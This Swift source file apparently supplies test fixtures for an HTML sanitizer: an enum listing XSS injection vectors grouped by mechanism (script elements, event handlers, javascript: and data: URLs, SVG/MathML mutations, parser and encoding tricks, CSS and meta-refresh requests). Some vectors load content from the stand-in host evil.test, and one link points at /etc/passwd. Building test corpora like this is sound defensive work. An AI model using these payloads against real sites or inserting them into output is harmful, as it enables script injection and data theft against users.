/// Markup that runs a script, sends a request or changes the page in some browser, past or present,
/// if it is written without a filter.
///
/// Every payload calls `alert`, so that a test can recognize a script that runs, and every request
/// goes to `http://evil.test`.
public enum InjectionVectors {
  /// The known vectors, by family: those of the XSS cheat sheets of OWASP and PortSwigger and of the
  /// test suites of sanitizers, reduced to one for each mechanism.
  public static let known: [String] = elements + handlers + urls + foreign + parsing + requests

  /// Elements that run or load something.
  static let elements = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    "<script\u{0C}type=module>alert(1)</script >",
    "<script>alert(1)<!--<script></script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc=&lt;img/src=x/onerror=alert(1)&gt;></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(1)>'>",
    "<applet code=javascript:alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "<portal src=javascript:alert(1)>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title></title><img src=x onerror=alert(1)></title>",
    "<style></style><img src=x onerror=alert(1)></style>",
    "<plaintext><img src=x onerror=alert(1)>",
  ]

  /// Event handlers.
  static let handlers = [
    "<img src=x onerror=alert(1)>", "<img src=x ONERROR = alert(1)>",
    "<img/src=x/onerror=alert(1)>", "<img src=x onerror=&#97;lert&lpar;1)>",
    "<img src='x' \"onerror='alert(1)'>", "<img src=x title=`x onerror=alert(1)`>",
    "<body onload=alert(1)>", "<p onclick=alert(1)>字</p>", "<b onmouseover='alert(1)'>字</b>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>", "<keygen autofocus onfocus=alert(1)>",
    "<a id=x tabindex=1 onfocus=alert(1)>字</a>", "<details open ontoggle=alert(1)>字</details>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<video poster=x onloadstart=alert(1) src=x>", "<marquee onstart=alert(1)>字</marquee>",
    "<p style='animation:x' onanimationstart=alert(1)>字</p><style>@keyframes x{}</style>",
    "<p onpointerenter=alert(1) onbeforeinput=alert(1) onwheel=alert(1)>字</p>",
    "<ruby onclick=alert(1)>字<rt onclick=alert(1)>じ</rt></ruby>",
    "<table background=javascript:alert(1)><td onclick=alert(1) background=x>字</table>",
  ]

  /// URLs.
  static let urls = [
    "<a href=javascript:alert(1)>字</a>", "<a href='JaVaScRiPt:alert(1)'>字</a>",
    "<a href='\u{1}javascript:alert(1)'>字</a>", "<a href='java\tscript:alert(1)'>字</a>",
    "<a href='java\nscript\r:alert(1)'>字</a>", "<a href='javascript&colon;alert(1)'>字</a>",
    "<a href='&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)'>字</a>",
    "<a href='&#x0A;javascript&#x3A;alert&#x28;1&#x29;'>字</a>",
    "<a href='javascript&Tab;:alert(1)'>字</a>", "<a href='javascript:%61lert(1)'>字</a>",
    "<a href='javascript://x/%0Aalert(1)'>字</a>", "<a href=vbscript:alert(1)>字</a>",
    "<a href=livescript:alert(1)>字</a>", "<a href='data:text/html,<script>alert(1)</script>'>字</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>字</a>",
    "<a href='blob:http://evil.test/x'>字</a>", "<a href='file:///etc/passwd'>字</a>",
    "<q cite=javascript:alert(1)>字</q>", "<a xlink:href=javascript:alert(1)>字</a>",
    "<img src=javascript:alert(1)>", "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit value=字></form>",
    "<button formaction=javascript:alert(1)>字</button>",
    "<isindex action=javascript:alert(1) type=image>", "<a ping=http://evil.test/ href=#>字</a>",
    "<map name=m><area href=javascript:alert(1) shape=default></map><img usemap=#m src=x>",
  ]

  /// SVG and MathML, and mutation by foreign content.
  static let foreign = [
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>字</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>字</text></a></svg>",
    "<svg><set attributeName=onload to=alert(1)>", "<svg><use href='data:image/svg+xml,x#x'></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<math href=javascript:alert(1)><mi>字</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<svg><desc><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  ]

  /// Parsing: comments, references, encodings, attribute values.
  static let parsing = [
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<?xml-stylesheet href='javascript:alert(1)'?><img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<p title='\"><img src=x onerror=alert(1)>'>字</p>",
    "<p title=\"'><script>alert(1)</script>\">字</p>",
    "<p lang='x\"onclick=\"alert(1)'>字</p>", "<p id='--><script>alert(1)</script>'>字</p>",
    "<b <script>alert(1)</script>>字</b>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<img src=x onerror=alert(1)//<", "<img src=x:x\u{0}onerror=alert(1)>",
    "<img alt='`><script>alert(1)</script>' src=x>",
    "<a href=\"x\" title=\"&quot; onclick=alert(1) x=&quot;\">字</a>",
    "<pre>\n<script>alert(1)</script></pre>", "<ruby>字<rt></ruby><script>alert(1)</script></rt>",
  ]

  /// Requests and navigations without scripts.
  static let requests = [
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<base href=javascript:alert(1)//><a href=#>字</a>", "<base href=http://evil.test/><img src=x>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<link rel=import href=http://evil.test/x>",
    "<link rel=prefetch href=http://evil.test/x>",
    "<style>@import 'http://evil.test/x.css';</style>",
    "<style>*{background:url(http://evil.test/x)}</style>字",
    "<p style='background:url(http://evil.test/x)'>字</p>",
    "<p style='background:url(javascript:alert(1))'>字</p>",
    "<p style='width:expression(alert(1))'>字</p>", "<p style='behavior:url(x.htc)'>字</p>",
    "<p style='-moz-binding:url(http://evil.test/x#x)'>字</p>",
    "<p style='--x:url(http://evil.test/x);color:var(--x)'>字</p>",
    "<p style='font-family:\"</style><img src=x onerror=alert(1)>\"'>字</p>",
    "<ul style='list-style:url(http://evil.test/x)'><li>字</ul>",
    "<p style='content:url(http://evil.test/x);cursor:url(http://evil.test/y),auto'>字</p>",
    "<img srcset='http://evil.test/x 1x' src=data:,>", "<input type=image src=http://evil.test/x>",
    "<picture><source srcset=http://evil.test/x><img></picture>",
    "<video src=http://evil.test/x poster=http://evil.test/y></video>",
    "<form action=http://evil.test/><button autofocus>字</button></form>",
    "<dl><dt onclick=alert(1)>字<dd><a href=javascript:alert(1)>字</a><script>alert(1)</script></dl>",
    "<table><tr><td onclick=alert(1) colspan=2><iframe src=javascript:alert(1)></iframe></table>",
  ]
}
